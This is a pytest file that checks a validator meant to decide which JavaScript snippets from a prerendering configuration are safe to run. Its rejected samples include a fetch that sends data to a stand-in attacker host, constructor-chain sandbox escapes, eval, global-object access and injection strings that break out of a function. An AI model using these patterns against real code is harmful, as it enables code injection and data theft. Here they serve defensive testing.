"""Functions of configurations that may run among our own code, and those that may not."""

from __future__ import annotations

import pytest

from prerender.setup.functions import is_harmless

pytestmark = pytest.mark.quick


@pytest.mark.parametrize(
    "source",
    [
        "n => 'A.' + n",
        "(n) => '[' + n + ']'",
        "function number(n) {return 'A.'+n}",
        "function (n) { return n.replace(/0/g, '0') }",
        "(id) => 'mjx-eqn-' + String(id).replace(/\\s/g, '_')",
        "(id, base) => base + '#' + encodeURIComponent(id)",
        "tag => `(${tag})`",
        "tag => ['(', tag, ')']",
        "function (n) { const s = n.toString(); if (n > 9) return s; else return '0' + s }",
    ],
)
def test_harmless(source: str) -> None:
    assert is_harmless(source)


@pytest.mark.parametrize(
    "source",
    [
        "",
        "n => MathJax.config.section + '.' + n",
        "n => section + '.' + n",
        "n => fetch('https://evil.example/' + n)",
        "n => n.constructor.constructor('return 1')()",
        "n => n['constructor']",
        "n => n[n]",
        "function (n) { while (true) {} }",
        "function (n) { for (;;) {} }",
        "n => { document.body.innerHTML = n }",
        "n => this.x",
        "(n, w = window) => w",
        "({x: n = window}) => n",
        "n => `${window}`",
        "n => `${`${window}`}`",
        "async n => n",
        "function* (n) {}",
        "n => globalThis",
        "n => new Function(n)",
        "n => import('x')",
        "n => eval(n)",
        "n => (() => { throw n })()",
        "n => n.__proto__",
        "n => {",
        "n => 1)}; evil(); ({",
        "n => 1); (n",
        "n => 1, n => 2",
        "'n'",
        "n => '" + "x" * 3000 + "'",
    ],
)
def test_not_harmless(source: str) -> None:
    assert not is_harmless(source)
